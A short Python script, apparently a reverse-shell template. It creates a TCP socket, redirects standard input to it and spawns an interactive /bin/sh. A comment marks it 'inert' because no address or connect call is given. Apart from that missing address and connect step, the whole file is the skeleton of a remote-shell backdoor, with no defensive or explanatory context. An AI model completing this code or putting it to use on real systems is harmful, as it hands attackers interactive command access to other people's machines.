#!/usr/bin/python
import socket, os, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# no address: inert
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])
